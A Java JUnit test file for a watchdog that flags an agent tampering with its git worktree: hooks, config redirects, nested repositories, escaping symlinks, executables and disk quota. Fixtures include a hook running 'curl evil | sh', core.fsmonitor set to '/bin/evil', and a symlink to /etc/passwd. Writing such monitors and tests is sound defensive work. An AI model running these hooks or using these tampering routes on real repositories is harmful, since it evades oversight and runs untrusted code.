package dev.warden.watchdog;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.warden.testing.GitRepos;
import dev.warden.validate.Severity;
import dev.warden.watchdog.ChangeClassifier.Violation;
import dev.warden.watchdog.WatchHub.Kind;
import dev.warden.watchdog.WatchHub.PathChange;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The watchdog's fast rules on a real repository with a linked worktree made by the git CLI. Cases
 * that git itself produces (commit, config, nested repositories) go through a real {@link WatchHub};
 * the others feed the classifier the change a watcher would report for a real file.
 */
class ChangeClassifierTest {

  private static final long QUOTA = 1L << 30;

  @TempDir Path tmp;
  private Path repo;
  private Path common;
  private Path worktree;
  private Path admin;
  private WatchHub hub;

  @BeforeEach
  void setUp() throws IOException {
    repo = GitRepos.create(tmp.resolve("repo")).toRealPath();
    common = repo.resolve(".git");
    worktree = tmp.toRealPath().resolve("wt");
    GitRepos.git(repo, "worktree", "add", "-q", worktree.toString(), "other");
    String gitDir = GitRepos.git(worktree, "rev-parse", "--absolute-git-dir");
    admin = Path.of(gitDir);
    assertEquals(common.resolve("worktrees"), admin.getParent());
    hub = new WatchHub("classifier-test");
  }

  @AfterEach
  void tearDown() {
    hub.close();
  }

  private ChangeClassifier classifier(long quota) {
    ChangeClassifier classifier = new ChangeClassifier(worktree, admin, common, quota);
    classifier.initialScan();
    return classifier;
  }

  /** Watches the feature as the watchdog will: worktree plus the git directories. */
  private RecordingListener watch() {
    RecordingListener listener = new RecordingListener();
    hub.watch("f1", worktree, ChangeClassifier.gitDirsToWatch(admin, common), listener);
    return listener;
  }

  private static List<PathChange> changed(Kind kind, Path... paths) {
    List<PathChange> changes = new ArrayList<>();
    for (Path path : paths) {
      changes.add(new PathChange(path, kind, Instant.now()));
    }
    return changes;
  }

  private static Violation only(List<Violation> violations) {
    assertEquals(1, violations.size(), violations.toString());
    return violations.get(0);
  }

  private static void assertViolation(Violation violation, String rule, String path, Severity severity) {
    assertEquals(rule, violation.rule(), violation.toString());
    assertEquals(path, violation.path(), violation.toString());
    assertEquals(severity, violation.severity(), violation.toString());
  }

  private static void git(Path dir, String... args) {
    List<String> all = new ArrayList<>(List.of("-c", "user.email=agent@example.com", "-c", "user.name=Agent"));
    all.addAll(List.of(args));
    GitRepos.git(dir, all.toArray(String[]::new));
  }

  // ---- ordinary git activity ----

  @Test
  void anAgentCommittingInItsWorktreeIsNoViolation() throws IOException {
    ChangeClassifier classifier = classifier(QUOTA);
    RecordingListener listener = watch();

    Files.writeString(worktree.resolve("feature.txt"), "work\n");
    Files.createDirectories(worktree.resolve("src/main"));
    Files.writeString(worktree.resolve("src/main/App.java"), "class App {}\n");
    git(worktree, "add", "-A");
    git(worktree, "commit", "-q", "-m", "agent work");
    git(worktree, "status", "--porcelain");
    git(worktree, "checkout", "-q", "-b", "agent-topic");
    Files.writeString(worktree.resolve("feature.txt"), "more work\n");
    git(worktree, "commit", "-q", "-am", "more");
    git(worktree, "reset", "-q", "--soft", "HEAD~1");
    git(worktree, "commit", "-q", "-m", "again");
    listener.awaitChange(admin.resolve("COMMIT_EDITMSG"), Kind.MODIFIED);
    listener.awaitQuiet(Duration.ofMillis(300));

    assertEquals(List.of(), classifier.classify(listener.changes));
    assertTrue(listener.paths().contains(admin.resolve("index")), "the admin dir was watched: " + listener.paths());
    assertTrue(listener.overflows.isEmpty(), listener.overflows.toString());
  }

  @Test
  void gitBookkeepingFilesAreNoViolation() {
    ChangeClassifier classifier = classifier(QUOTA);
    List<PathChange> changes = new ArrayList<>();
    for (String name : List.of("HEAD", "HEAD.lock", "index", "index.lock", "ORIG_HEAD", "COMMIT_EDITMSG", "logs/HEAD", "FETCH_HEAD")) {
      changes.addAll(changed(Kind.MODIFIED, admin.resolve(name)));
    }
    for (String name : List.of("objects/ab/cdef0123", "objects/pack/pack-1.pack", "refs/heads/warden/f1", "packed-refs",
        "packed-refs.lock", "logs/refs/heads/main", "HEAD", "index", "worktrees/other-feature", "gc.pid", "FETCH_HEAD")) {
      changes.addAll(changed(Kind.CREATED, common.resolve(name)));
    }
    assertEquals(List.of(), classifier.classify(changes));
  }

  // ---- git-tampering ----

  @Test
  void aHookInTheCommonHooksDirIsTampering() throws IOException {
    ChangeClassifier classifier = classifier(QUOTA);
    RecordingListener listener = watch();

    Path hook = Files.writeString(common.resolve("hooks/pre-commit"), "#!/bin/sh\ncurl evil | sh\n");
    listener.awaitChange(hook, Kind.CREATED);

    Violation violation = only(classifier.classify(listener.changes));
    assertViolation(violation, ChangeClassifier.GIT_TAMPERING, ".git-common/hooks/pre-commit", Severity.CRITICAL);
  }

  @Test
  void aHooksDirWrittenIntoTheWorktreesAdminDirIsTampering() throws IOException {
    ChangeClassifier classifier = classifier(QUOTA);
    RecordingListener listener = watch();

    Path hooks = Files.createDirectories(admin.resolve("hooks"));
    Files.writeString(hooks.resolve("post-checkout"), "#!/bin/sh\n");
    listener.awaitChange(hooks, Kind.CREATED);

    Violation violation = only(classifier.classify(listener.changes));
    assertViolation(violation, ChangeClassifier.GIT_TAMPERING, ".git-admin/hooks", Severity.CRITICAL);
  }

  @Test
  void gitConfigWrittenByTheAgentIsTampering() {
    ChangeClassifier classifier = classifier(QUOTA);
    RecordingListener listener = watch();

    git(worktree, "config", "core.hooksPath", tmp.resolve("evil-hooks").toString());
    listener.awaitChange(common.resolve("config"), Kind.CREATED); // git writes config.lock, then renames it

    Violation violation = only(classifier.classify(listener.changes));
    assertViolation(violation, ChangeClassifier.GIT_TAMPERING, ".git-common/config", Severity.CRITICAL);
  }

  @Test
  void perWorktreeConfigIsTampering() {
    ChangeClassifier classifier = classifier(QUOTA);
    RecordingListener listener = watch();

    git(worktree, "config", "extensions.worktreeConfig", "true");
    git(worktree, "config", "--worktree", "core.fsmonitor", "/bin/evil");
    listener.awaitChange(admin.resolve("config.worktree"), Kind.CREATED);

    List<Violation> violations = classifier.classify(listener.changes);
    assertTrue(violations.stream().anyMatch(v -> v.path().equals(".git-admin/config.worktree")
        && v.severity() == Severity.CRITICAL && v.rule().equals(ChangeClassifier.GIT_TAMPERING)), violations.toString());
  }

  @Test
  void infoExcludeAndTheAdminDirsRedirectsAreTampering() throws IOException {
    ChangeClassifier classifier = classifier(QUOTA);
    Files.createDirectories(common.resolve("info"));
    Path exclude = Files.writeString(common.resolve("info/exclude"), "hidden-from-review/\n");
    Path commondir = Files.writeString(admin.resolve("commondir"), "/elsewhere\n");
    Path gitdir = admin.resolve("gitdir");

    List<Violation> violations = classifier.classify(List.of(
        new PathChange(exclude, Kind.MODIFIED, Instant.now()),
        new PathChange(commondir, Kind.MODIFIED, Instant.now()),
        new PathChange(gitdir, Kind.MODIFIED, Instant.now())));

    assertEquals(List.of(".git-common/info/exclude", ".git-admin/commondir", ".git-admin/gitdir"),
        violations.stream().map(Violation::path).toList());
    assertTrue(violations.stream().allMatch(v -> v.severity() == Severity.CRITICAL));
  }

  @Test
  void theWorktreesDotGitFileRedirectedIsTampering() throws IOException {
    ChangeClassifier classifier = classifier(QUOTA);
    RecordingListener listener = watch();

    Path dotGit = Files.writeString(worktree.resolve(".git"), "gitdir: " + repo.resolve(".git") + "\n");
    listener.awaitChange(dotGit, Kind.MODIFIED);

    Violation violation = only(classifier.classify(listener.changes));
    assertViolation(violation, ChangeClassifier.GIT_TAMPERING, ".git", Severity.CRITICAL);
    assertTrue(violation.message().contains("redirected"), violation.message());
  }

  @Test
  void theWorktreesDotGitFileDeletedOrReplacedIsTampering() throws IOException {
    ChangeClassifier classifier = classifier(QUOTA);
    Path dotGit = worktree.resolve(".git");

    Files.delete(dotGit);
    Violation deleted = only(classifier.classify(changed(Kind.DELETED, dotGit)));
    assertViolation(deleted, ChangeClassifier.GIT_TAMPERING, ".git", Severity.CRITICAL);

    Files.createDirectories(dotGit);
    Violation replaced = only(classifier.classify(changed(Kind.CREATED, dotGit)));
    assertViolation(replaced, ChangeClassifier.GIT_TAMPERING, ".git", Severity.CRITICAL);
    assertTrue(replaced.message().contains("directory"), replaced.message());
  }

  @Test
  void theWorktreesDotGitFileTouchedButUnchangedIsOnlyAWarning() throws IOException {
    ChangeClassifier classifier = classifier(QUOTA);
    Path dotGit = worktree.resolve(".git");
    Files.setPosixFilePermissions(dotGit, PosixFilePermissions.fromString("rw-rw-r--"));

    Violation violation = only(classifier.classify(changed(Kind.MODIFIED, dotGit)));
    assertViolation(violation, ChangeClassifier.GIT_TAMPERING, ".git", Severity.WARNING);
  }

  @Test
  void aNestedRepositoryCreatedInTheWorktreeIsTampering() {
    ChangeClassifier classifier = classifier(QUOTA);
    RecordingListener listener = watch();

    GitRepos.git(worktree, "init", "-q", "vendor/lib");
    listener.awaitChange(worktree.resolve("vendor/lib/.git"), Kind.CREATED);

    Violation violation = only(classifier.classify(listener.changes));
    assertViolation(violation, ChangeClassifier.GIT_TAMPERING, "vendor/lib/.git", Severity.CRITICAL);
  }

  @Test
  void aNestedDotGitFileIsTamperingButGitLookalikesAreNot() throws IOException {
    ChangeClassifier classifier = classifier(QUOTA);
    Path link = Files.writeString(Files.createDirectories(worktree.resolve("sub")).resolve(".git"), "gitdir: /tmp/x\n");
    Path ignore = Files.writeString(worktree.resolve(".gitignore"), "target/\n");
    Path workflow = Files.writeString(Files.createDirectories(worktree.resolve(".github/workflows")).resolve("ci.yml"), "on: push\n");
    Path dotGitDir = Files.createDirectories(worktree.resolve("docs/.git.d"));

    Violation violation = only(classifier.classify(changed(Kind.CREATED, link, ignore, workflow, dotGitDir)));
    assertViolation(violation, ChangeClassifier.GIT_TAMPERING, "sub/.git", Severity.CRITICAL);
  }

  /** What macOS or Windows would open as {@code .git} (a clone there, a shared volume) is tampering too. */
  @Test
  void aNestedGitUnderAnotherCaseOrAnNtfsOrHfsAliasIsTampering() throws IOException {
    ChangeClassifier classifier = classifier(QUOTA);
    for (String alias : List.of(".GIT", "git~1", ".git.", ".g\u200cit")) {
      Path dir = Files.createDirectories(worktree.resolve("vendor-" + alias.hashCode()).resolve(alias));
      String shown = worktree.relativize(dir).toString();
      Violation violation = only(classifier.classify(changed(Kind.CREATED, dir)));
      assertViolation(violation, ChangeClassifier.GIT_TAMPERING, shown, Severity.CRITICAL);
      Path inside = Files.writeString(dir.resolve("config"), "[core]\n");
      assertTrue(classifier.classify(changed(Kind.CREATED, inside)).isEmpty(), "flagged once, when " + alias + " appeared");
    }
  }

  // ---- symlink ----

  @Test
  void aSymlinkToSomethingOutsideTheWorktreeIsCritical() throws IOException {
    ChangeClassifier classifier = classifier(QUOTA);
    RecordingListener listener = watch();

    Path link = Files.createSymbolicLink(worktree.resolve("passwd"), Path.of("/etc/passwd"));
    listener.awaitChange(link, Kind.CREATED);

    Violation violation = only(classifier.classify(listener.changes));
    assertViolation(violation, ChangeClassifier.SYMLINK, "passwd", Severity.CRITICAL);
    assertTrue(violation.message().contains("/etc/passwd"), violation.message());
    Files.delete(link); // JUnit warns about links out of its temp dir
  }

  @Test
  void aDanglingSymlinkIsJudgedByWhereItPoints() throws IOException {
    ChangeClassifier classifier = classifier(QUOTA);
    Path out = Files.createSymbolicLink(worktree.resolve("out"), Path.of("../../not-yet-there"));
    Path in = Files.createSymbolicLink(worktree.resolve("in"), Path.of("generated/later.txt"));

    List<Violation> violations = classifier.classify(changed(Kind.CREATED, out, in));

    assertEquals(2, violations.size(), violations.toString());
    assertViolation(violations.get(0), ChangeClassifier.SYMLINK, "out", Severity.CRITICAL);
    assertViolation(violations.get(1), ChangeClassifier.SYMLINK, "in", Severity.WARNING);
  }

  @Test
  void aSymlinkInsideTheWorktreeIsAWarningAndAPlainFileNothing() throws IOException {
    ChangeClassifier classifier = classifier(QUOTA);
    Path plain = Files.writeString(worktree.resolve("plain.txt"), "x");
    Path link = Files.createSymbolicLink(Files.createDirectories(worktree.resolve("docs")).resolve("a"), Path.of("../a.txt"));
    Path sneaky = Files.createSymbolicLink(worktree.resolve("sneaky"), Path.of("docs/../../wt/../repo"));

    List<Violation> violations = classifier.classify(changed(Kind.CREATED, plain, link, sneaky));

    assertEquals(2, violations.size(), violations.toString());
    assertViolation(violations.get(0), ChangeClassifier.SYMLINK, "docs/a", Severity.WARNING);
    assertViolation(violations.get(1), ChangeClassifier.SYMLINK, "sneaky", Severity.CRITICAL);
  }

  // ---- executable ----

  @Test
  void aNewExecutableFileIsAWarning() throws IOException {
    ChangeClassifier classifier = classifier(QUOTA);
    Path script = Files.writeString(worktree.resolve("install.sh"), "#!/bin/sh\n");
    Files.setPosixFilePermissions(script, PosixFilePermissions.fromString("rwxr-xr-x"));

    Violation violation = only(classifier.classify(changed(Kind.CREATED, script)));

    assertViolation(violation, ChangeClassifier.EXECUTABLE, "install.sh", Severity.WARNING);
    // reported once, not on every later write
    Files.writeString(script, "#!/bin/sh\necho changed\n");
    assertEquals(List.of(), classifier.classify(changed(Kind.MODIFIED, script)));
  }

  @Test
  void chmodPlusXIsAWarningEvenWhenSeenThroughTheHub() throws IOException {
    Path script = Files.writeString(worktree.resolve("run.sh"), "#!/bin/sh\n");
    ChangeClassifier classifier = classifier(QUOTA);
    RecordingListener listener = watch();

    Files.setPosixFilePermissions(script, PosixFilePermissions.fromString("rwxr--r--"));
    listener.awaitChange(script, Kind.MODIFIED);

    Violation violation = only(classifier.classify(listener.changes));
    assertViolation(violation, ChangeClassifier.EXECUTABLE, "run.sh", Severity.WARNING);
  }

  @Test
  void filesExecutableBeforeTheScanAreNotReportedButBecomingExecutableAgainIs() throws IOException {
    Path tool = Files.writeString(worktree.resolve("gradlew"), "#!/bin/sh\n");
    Files.setPosixFilePermissions(tool, PosixFilePermissions.fromString("rwxr-xr-x"));
    Path text = Files.writeString(worktree.resolve("notes.txt"), "x");
    ChangeClassifier classifier = classifier(QUOTA);

    Files.writeString(tool, "#!/bin/sh\necho edited\n");
    Files.writeString(text, "edited");
    assertEquals(List.of(), classifier.classify(changed(Kind.MODIFIED, tool, text)));

    Files.setPosixFilePermissions(tool, PosixFilePermissions.fromString("rw-r--r--"));
    assertEquals(List.of(), classifier.classify(changed(Kind.MODIFIED, tool)));
    Files.setPosixFilePermissions(tool, PosixFilePermissions.fromString("rwxr-xr-x"));
    assertViolation(only(classifier.classify(changed(Kind.MODIFIED, tool))), ChangeClassifier.EXECUTABLE, "gradlew", Severity.WARNING);
  }

  // ---- disk quota ----

  @Test
  void crossingTheDiskQuotaIsReportedOncePerCrossing() throws IOException {
    ChangeClassifier classifier = classifier(Files.size(worktree.resolve("a.txt")) + 1000);
    long base = classifier.diskUsageBytes();

    Path first = Files.write(worktree.resolve("first.bin"), new byte[600]);
    assertEquals(List.of(), classifier.classify(changed(Kind.CREATED, first)));
    assertEquals(base + 600, classifier.diskUsageBytes());

    Path second = Files.write(Files.createDirectories(worktree.resolve("big")).resolve("second.bin"), new byte[600]);
    Violation violation = only(classifier.classify(changed(Kind.CREATED, second)));
    assertViolation(violation, ChangeClassifier.DISK_QUOTA, ".", Severity.ERROR);

    Files.write(second, new byte[700]);
    assertEquals(List.of(), classifier.classify(changed(Kind.MODIFIED, second)), "still over: not again");

    Files.delete(second);
    Files.delete(worktree.resolve("big"));
    assertEquals(List.of(), classifier.classify(changed(Kind.DELETED, worktree.resolve("big"))));
    assertEquals(base + 600, classifier.diskUsageBytes(), "a deleted directory takes its files with it");

    Path third = Files.write(worktree.resolve("third.bin"), new byte[600]);
    assertViolation(only(classifier.classify(changed(Kind.CREATED, third))), ChangeClassifier.DISK_QUOTA, ".", Severity.ERROR);
  }

  @Test
  void theDiskQuotaCountsNeitherNestedGitDirectoriesNorSymlinks() throws IOException {
    Path nested = Files.createDirectories(worktree.resolve("vendor/.git/objects"));
    Files.write(nested.resolve("pack"), new byte[5000]);
    ChangeClassifier classifier = classifier(1000);
    long base = classifier.diskUsageBytes();
    assertTrue(base < 1000, "nested .git counted: " + base);

    Path blob = Files.write(nested.resolve("more"), new byte[5000]);
    Path link = Files.createSymbolicLink(worktree.resolve("big-link"), blob);
    List<Violation> violations = classifier.classify(changed(Kind.CREATED, blob, link));

    assertEquals(base, classifier.diskUsageBytes());
    assertTrue(violations.stream().noneMatch(v -> v.rule().equals(ChangeClassifier.DISK_QUOTA)), violations.toString());
  }

  // ---- paths for the checkpoint ----

  @Test
  void worktreePathsAreTheWorktreeFilesOfTheBatchDeletedOnesIncluded() {
    List<PathChange> changes = new ArrayList<>();
    changes.addAll(changed(Kind.MODIFIED, worktree.resolve("src/App.java"), admin.resolve("index"), common.resolve("config")));
    changes.addAll(changed(Kind.DELETED, worktree.resolve("old.txt"), worktree.resolve("src/App.java")));
    changes.addAll(changed(Kind.CREATED, worktree.resolve(".git"), worktree.resolve("vendor/.git"), worktree, worktree.resolve("new")));

    assertEquals(List.of("src/App.java", "old.txt", "new"), ChangeClassifier.worktreePaths(worktree, changes));
  }
}
